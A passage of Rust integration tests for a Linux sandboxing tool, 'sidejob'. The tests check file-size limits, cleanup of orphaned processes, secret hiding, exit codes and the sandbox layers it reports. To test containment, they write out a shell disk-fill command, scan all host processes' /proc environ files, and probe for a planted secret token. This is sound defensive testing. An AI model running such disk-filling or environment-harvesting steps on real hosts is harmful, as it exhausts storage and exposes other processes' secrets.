        &[&ws.probe(), "flood", "1000"],
    );
    assert_eq!(small.result()["output_truncated"], false);
}

#[test]
fn filling_the_disk_is_stopped_by_the_file_size_limit() {
    let Some(ws) = Ws::new() else { return };
    let p = ws.profile("fsize", &profile_with("", "file_size = \"8MiB\""));
    let big = ws.path().join("big");
    let out = exec(
        &ws,
        &["--profile", &p],
        &[&ws.probe(), "fill", big.to_str().unwrap()],
    );
    assert_eq!(out.errno(), libc::EFBIG as i64, "{}", out.stdout);
    assert!(std::fs::metadata(&big).unwrap().len() <= 8 << 20);
    // Through a shell, the writer dies of SIGXFSZ and the result says why.
    let sh = exec(
        &ws,
        &["--profile", &p, "--json"],
        &[
            "/bin/sh",
            "-c",
            &format!(
                "head -c 20000000 /dev/zero > {}",
                ws.path().join("big2").display()
            ),
        ],
    );
    assert!(
        sh.result()["violations"]
            .as_array()
            .unwrap()
            .iter()
            .any(|v| v == "file_size"),
        "{}",
        sh.stdout
    );
    assert!(std::fs::metadata(ws.path().join("big2")).unwrap().len() <= 8 << 20);
    // Control: a file under the limit is written whole.
    let ok = exec(
        &ws,
        &["--profile", &p],
        &[
            &ws.probe(),
            "fill",
            ws.path().join("small").to_str().unwrap(),
            "4194304",
        ],
    );
    assert!(ok.ok(), "{}", ok.stdout);
}

// ---- lifetime --------------------------------------------------------------------------------

fn host_processes_with(marker: &str) -> Vec<i32> {
    let mut v = Vec::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        let Some(pid) = e.file_name().to_str().and_then(|s| s.parse::<i32>().ok()) else {
            continue;
        };
        if let Ok(env) = std::fs::read(format!("/proc/{pid}/environ")) {
            if String::from_utf8_lossy(&env).contains(marker) && sidejob_tests::process_alive(pid) {
                v.push(pid);
            }
        }
    }
    v
}

#[test]
fn a_setsid_grandchild_is_gone_when_the_run_ends() {
    let Some(ws) = Ws::new() else { return };
    let marker = format!("orphan-{}-{}", std::process::id(), line!());
    let out = exec(&ws, &["--json"], &[&ws.probe(), "orphan", &marker]);
    assert!(out.ok(), "{}", out.stdout);
    assert!(
        out.result()["leftover_processes"].as_u64().unwrap() >= 1,
        "{}",
        out.stdout
    );
    assert!(
        host_processes_with(&marker).is_empty(),
        "the grandchild survived the run"
    );
    // Control: on the host the same probe does leave the grandchild behind.
    let ctl_marker = format!("{marker}-control");
    assert!(outside(&["orphan", &ctl_marker]).ok());
    // The grandchild execs `sleep` after the probe has returned: wait for it to show.
    let deadline = Instant::now() + Duration::from_secs(10);
    let left = loop {
        let left = host_processes_with(&ctl_marker);
        if !left.is_empty() || Instant::now() > deadline {
            break left;
        }
        std::thread::sleep(Duration::from_millis(10));
    };
    assert!(
        !left.is_empty(),
        "control: the grandchild is left behind on the host"
    );
    for p in left {
        // SAFETY: killing the control's leftover.
        unsafe { libc::kill(p, libc::SIGKILL) };
    }
}

#[test]
fn killing_the_supervisor_takes_the_whole_run_with_it() {
    let Some(ws) = Ws::new() else { return };
    let marker = format!("killsup-{}-{}", std::process::id(), line!());
    let script = format!("{} orphan {marker}; exec /bin/sleep 60", ws.probe());
    let mut child = Command::new(sidejob_bin())
        .args(["exec", "--workspace"])
        .arg(ws.path())
        .args(["--", "/bin/sh", "-c", &script])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(20);
    while host_processes_with(&marker).is_empty() {
        assert!(Instant::now() < deadline, "the run never started");
        std::thread::sleep(Duration::from_millis(20));
    }
    child.kill().unwrap(); // SIGKILL the supervisor
    child.wait().unwrap();
    let deadline = Instant::now() + Duration::from_secs(10);
    while !host_processes_with(&marker).is_empty() {
        assert!(Instant::now() < deadline, "the run outlived its supervisor");
        std::thread::sleep(Duration::from_millis(20));
    }
}

// ---- environment -----------------------------------------------------------------------------

#[test]
fn the_callers_secrets_are_not_in_the_environment_or_in_proc() {
    let Some(ws) = Ws::new() else { return };
    let env = [
        ("SIDEJOB_TEST_SECRET", "hunter2-token"),
        ("TERM", "xterm-test"),
    ];
    let out = exec_env(&ws, &[], &[&ws.probe(), "env"], &env);
    let d = out.report()["detail"].as_str().unwrap().to_owned();
    assert!(!d.contains("hunter2"), "{d}");
    assert!(
        d.contains("TERM=xterm-test"),
        "an allowed variable passes: {d}"
    );
    let all = exec_env(&ws, &[], &[&ws.probe(), "environs"], &env);
    assert!(!all.stdout.contains("hunter2"), "{}", all.stdout);
    // Control: the secret is in the caller's environment (the unconfined probe sees it).
    let ctl = Command::new(probe_bin())
        .arg("env")
        .envs(env)
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&ctl.stdout).contains("hunter2"));
}

// ---- exit codes and profiles -----------------------------------------------------------------

#[test]
fn exit_codes_and_signals_pass_through() {
    let Some(ws) = Ws::new() else { return };
    assert_eq!(inside(&ws, &["exit", "0"]).code, 0);
    assert_eq!(inside(&ws, &["exit", "7"]).code, 7);
    assert_eq!(inside(&ws, &["signal", "9"]).code, 137);
    assert_eq!(inside(&ws, &["signal", "15"]).code, 143);
    let j = exec(&ws, &["--json"], &[&ws.probe(), "signal", "6"]);
    assert_eq!(j.code, 134);
    assert_eq!(j.result()["signal"], 6);
    let missing = exec(&ws, &[], &["no-such-command-sidejob"]);
    assert_eq!(missing.code, 127, "{}", missing.stderr);
}

#[test]
fn result_json_names_the_active_layers() {
    let Some(ws) = Ws::new() else { return };
    let out = exec(&ws, &["--json"], &["/bin/true"]);
    let r = out.result();
    assert_eq!(r["state"], "succeeded");
    let layers: Vec<&str> = r["sandbox_layers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    for l in [
        "pid_namespace",
        "mount_namespace",
        "net_namespace",
        "mount_view",
        "landlock_fs",
        "seccomp",
        "no_new_privs",
        "capabilities",
    ] {
        assert!(layers.contains(&l), "{l} missing from {layers:?}");
    }
    assert_eq!(r["profile"], "workspace-write");
    // The ci profile adds the cgroup limits.
    let ci = exec(&ws, &["--profile", "ci", "--json"], &["/bin/true"]).result();
    let layers: Vec<&str> = ci["sandbox_layers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    for l in ["cgroup_memory", "cgroup_pids", "cgroup_cpu"] {
        assert!(layers.contains(&l), "{l} missing from {layers:?}");
    }
}

#[test]
fn an_invalid_profile_is_refused_with_file_line_and_field() {
    let Some(ws) = Ws::new() else { return };
    let bad = ws.profile("bad", "network = \"none\"\n[limits]\nmemory = \"lots\"\n");
    let out = exec(&ws, &["--profile", &bad], &["/bin/true"]);
    assert_eq!(out.code, 125);
    assert!(
        out.stderr.contains(&format!("{bad}:3: limits.memory")),
        "{}",
        out.stderr
    );
    let unknown = exec(&ws, &["--profile", "no-such-profile"], &["/bin/true"]);
    assert_eq!(unknown.code, 125);
    assert!(
        unknown.stderr.contains("unknown profile"),
        "{}",
        unknown.stderr
    );
    // Control: the shipped profiles all run.
    for p in ["read-only", "workspace-write", "ci", "network"] {
        assert_eq!(exec(&ws, &["--profile", p], &["/bin/true"]).code, 0, "{p}");
    }
}

#[test]
fn the_read_only_profile_cannot_write_the_workspace() {
    let Some(ws) = Ws::new() else { return };
    let f = ws.path().join("file");
    std::fs::write(&f, "orig").unwrap();
    let out = exec(
        &ws,
        &["--profile", "read-only"],
        &[&ws.probe(), "write", f.to_str().unwrap(), "x"],
    );
    assert!(!out.ok());
    assert_eq!(std::fs::read_to_string(&f).unwrap(), "orig");
    // Control: reading works, and workspace-write may write.
    assert!(exec(
        &ws,
        &["--profile", "read-only"],
        &[&ws.probe(), "read", f.to_str().unwrap()]
    )
    .ok());
    assert!(inside(&ws, &["write", f.to_str().unwrap(), "x"]).ok());
}

#[test]
fn sidejob_doctor_reports_every_layer() {
    if skip_unless(is_root(), "doctor's trial run needs root here") {
        return;
    }
    let o = Command::new(sidejob_bin())
        .args(["doctor", "--json"])
        .output()
        .unwrap();
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["ok"], true, "{v}");
    let layers = v["layers"].as_array().unwrap();
    for l in ["landlock_fs", "seccomp", "cgroup_memory", "mount_view"] {
        let e = layers
            .iter()
            .find(|x| x["layer"] == l)
            .unwrap_or_else(|| panic!("{l}"));
        assert_eq!(e["active"], true, "{e}");
    }
    assert_eq!(v["trial"]["ok"], true);
    let text = Command::new(sidejob_bin()).arg("doctor").output().unwrap();
    assert!(String::from_utf8_lossy(&text.stdout).contains("landlock"));
}
